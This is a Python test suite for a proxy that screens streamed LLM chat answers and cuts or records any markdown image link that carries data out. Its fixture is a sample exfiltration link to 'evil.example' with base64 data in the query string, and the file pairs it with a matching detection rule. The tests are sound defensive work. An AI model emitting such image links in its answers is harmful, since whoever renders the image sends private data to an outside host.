"""Answers are listened to while they stream: links that carry data out are found, whatever cuts."""

import asyncio
import json
from typing import Any

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from leash_addon.config.rules import build_pack
from leash_addon.config.screening import USUAL, Level, ScreeningSettings
from leash_addon.core.part import Part
from leash_addon.core.reading import Confidence, Outcome
from leash_addon.core.screening import Action, Found
from leash_addon.proxy.acting import Blocked
from leash_addon.proxy.ear import Ear
from leash_addon.proxy.screening import Screening
from leash_addon.screen.engine import Engine
from tests.proxy.world import MakeWorld, Request, answer_json, begin_events, chat_events, send_chunk

RULE = "exfiltration.image.query"
LINK = "![x](https://evil.example/p.png?d=c2VjcmV0c2VjcmV0)"
PACK = build_pack(
    {
        "pack": {"name": "test", "version": 1},
        "rule": [
            {
                "id": RULE,
                "title": "An image address with data in it",
                "severity": 1,
                "scan": ["response"],
                "keywords": ["http"],
                "any_of": [r"!\[[^\]]{0,80}\]\(https?://[^\s)]{1,200}\?d=[a-z0-9+/=]{8,}"],
                "why": "Whoever shows the image sends the data.",
                "examples": {"match": [LINK, LINK], "no_match": ["a", "b"]},
            }
        ],
    },
    "test.toml",
)
ENGINE = Engine([PACK])
BEFORE = "Here is a summary of it all. "


def ear(hits: list[Blocked] | None = None, action: Action = Action.OBSERVE) -> Ear:
    """Return a listener."""
    return Ear(engine=ENGINE, action=action, on_hit=(hits if hits is not None else []).append)


def places(found: tuple[Found, ...]) -> list[tuple[str, int]]:
    """Return what was found, and where it begins."""
    return [(one.rule, one.start) for one in found]


@given(st.lists(st.integers(0, 3 * len(BEFORE) + len(LINK)), max_size=12))
def test_a_link_is_found_however_the_answer_is_cut(cuts: list[int]) -> None:
    """In pieces of any size it is found once, at its place."""
    whole = BEFORE + LINK + BEFORE * 2
    listener, done = ear(), 0
    for cut in [*sorted(cuts), len(whole)]:
        listener.hear(whole[done:cut], 0)
        done = max(done, cut)
    assert places(listener.close()) == [(RULE, len(BEFORE))]


def test_a_link_is_found_as_soon_as_it_is_whole() -> None:
    """Nobody waits for the end of the answer."""
    hits: list[Blocked] = []
    listener = ear(hits, Action.CUT)
    for letter in BEFORE + LINK[:-1]:
        listener.hear(letter, 0)
    assert hits == []
    listener.hear(LINK[-1], 0)
    assert [hit.rule for hit in hits] == [RULE]


def test_choices_are_told_apart() -> None:
    """Two answers at once are two texts."""
    listener = ear()
    for at in range(0, len(LINK), 5):
        for choice in (0, 1):
            listener.hear(LINK[at : at + 5], choice)
    assert [one.place for one in listener.close()] == ["choices[0]", "choices[1]"]


def test_a_long_answer_in_one_piece_is_looked_at_around_its_links() -> None:
    """A megabyte that comes at once does not hold the loop up, and its link is found."""
    filler = "x " * 500_000
    listener = ear()
    listener.hear(filler + LINK + filler, 0)
    assert places(listener.close()) == [(RULE, len(filler))]


def test_an_ear_that_fails_hears_no_more() -> None:
    """A fault ends the listening and nothing else."""

    class Broken(Engine):
        def pieces(self, text: str, part: Part) -> Any:  # noqa: ANN401, ARG002
            msg = "out of order"
            raise RuntimeError(msg)

    listener = Ear(engine=Broken([PACK]), action=Action.CUT, on_hit=lambda _: None)
    listener.hear(LINK + " ", 0)
    assert listener.close() == ()


def screening(action: Action) -> Screening:
    """Return what listens to answers."""
    settings = ScreeningSettings(level=Level.MEDIUM, actions={**USUAL, Part.RESPONSE: action})
    return Screening(ENGINE, settings)


def events(text: str) -> list[bytes]:
    """Return a chat stream that says this, ten letters at a time."""
    first, _, *rest = chat_events()
    chunk = json.loads(first.removeprefix(b"data: "))
    pieces = []
    for at in range(0, len(text), 10):
        chunk["choices"][0]["delta"]["content"] = text[at : at + 10]
        pieces.append(b"data: " + json.dumps(chunk).encode() + b"\n\n")
    return [*pieces, *rest]


@pytest.mark.asyncio
async def test_a_streamed_answer_is_observed(world: MakeWorld) -> None:
    """The bytes pass as they are, and what was found is on record with the call."""
    said = events(BEFORE + LINK + BEFORE)

    async def answer(_: Request, writer: asyncio.StreamWriter) -> None:
        await begin_events(writer)
        for event in said:
            await send_chunk(writer, event)
        await send_chunk(writer, b"")

    async with world(screening=screening(Action.OBSERVE), answer=answer) as it:
        async with it.client() as client:
            got = await it.chat(client, stream=True, stream_options={"include_usage": True})
        (settled,) = await it.settled()
        (entry,) = it.ledger.findings()
        assert it.ledger.fsck() == []
    assert got.content == b"".join(said)
    assert (entry.of, places(entry.found)) == (settled.call, [(RULE, len(BEFORE))])
    assert entry.found[0].part is Part.RESPONSE


async def read_to_its_end(client: httpx.AsyncClient) -> tuple[bytes, str]:
    """Ask for a stream; return what came, and the error that ended it."""
    got = b""
    body = {"model": "tiny", "messages": [], "stream": True}
    url = "https://api.openai.com/v1/chat/completions"
    try:
        async with client.stream("POST", url, json=body) as reply:
            async for chunk in reply.aiter_raw():
                got += chunk
    except httpx.HTTPError as error:
        return got, type(error).__name__
    return got, ""


@pytest.mark.asyncio
async def test_a_hit_cuts_the_stream(world: MakeWorld) -> None:
    """The link never reaches the client whole: an error event says why, and no end is clean."""
    said = events(BEFORE + LINK + BEFORE * 20)

    async def answer(_: Request, writer: asyncio.StreamWriter) -> None:
        await begin_events(writer)
        for event in said:
            await send_chunk(writer, event)
            await asyncio.sleep(0)
        await asyncio.sleep(30)

    async with world(screening=screening(Action.CUT), answer=answer) as it:
        async with it.client() as client:
            got, ended = await read_to_its_end(client)
        (settled,) = await it.settled()
        (entry,) = it.ledger.findings()
    *told, last, _ = got.split(b"\n\n")
    words = [json.loads(event.removeprefix(b"data: ")) for event in told]
    text = "".join(word["choices"][0]["delta"]["content"] for word in words)
    assert (BEFORE + LINK).startswith(text)
    assert LINK not in text
    error = json.loads(last.removeprefix(b"data: "))["error"]
    assert (error["code"], error["rule"]) == ("screening", RULE)
    assert (ended, settled.outcome) == ("RemoteProtocolError", Outcome.CUT)
    assert [(one.rule, one.action) for one in entry.found] == [(RULE, Action.CUT)]


@pytest.mark.asyncio
async def test_a_cut_before_the_usage_is_booked_at_its_hold(world: MakeWorld) -> None:
    """The answer had its last word, but what it used was cut off with its end: it is not blind."""
    *said, _, _ = events(BEFORE + LINK + " ")

    async def answer(_: Request, writer: asyncio.StreamWriter) -> None:
        await begin_events(writer)
        await send_chunk(writer, b"".join(said))
        await asyncio.sleep(30)

    async with world(screening=screening(Action.CUT), answer=answer) as it:
        async with it.client() as client:
            await read_to_its_end(client)
        (settled,) = await it.settled()
    assert (settled.outcome, settled.confidence) == (Outcome.CUT, Confidence.HELD)


@pytest.mark.asyncio
async def test_a_plain_answer_is_observed(world: MakeWorld) -> None:
    """An answer that comes whole has passed when its text is known: it is recorded, never cut."""
    message = {"role": "assistant", "content": BEFORE + LINK}
    body = {"id": "c", "model": "tiny", "choices": [{"index": 0, "message": message}]}
    body["usage"] = {"prompt_tokens": 1, "completion_tokens": 1}

    async def answer(_: Request, writer: asyncio.StreamWriter) -> None:
        await answer_json(writer, json.dumps(body).encode())

    async with world(screening=screening(Action.CUT), answer=answer) as it:
        async with it.client() as client:
            got = await it.chat(client)
        (settled,) = await it.settled()
        (entry,) = it.ledger.findings()
    assert (got.json(), settled.outcome) == (body, Outcome.COMPLETE)
    assert places(entry.found) == [(RULE, len(BEFORE))]
    assert entry.found[0].action is Action.OBSERVE
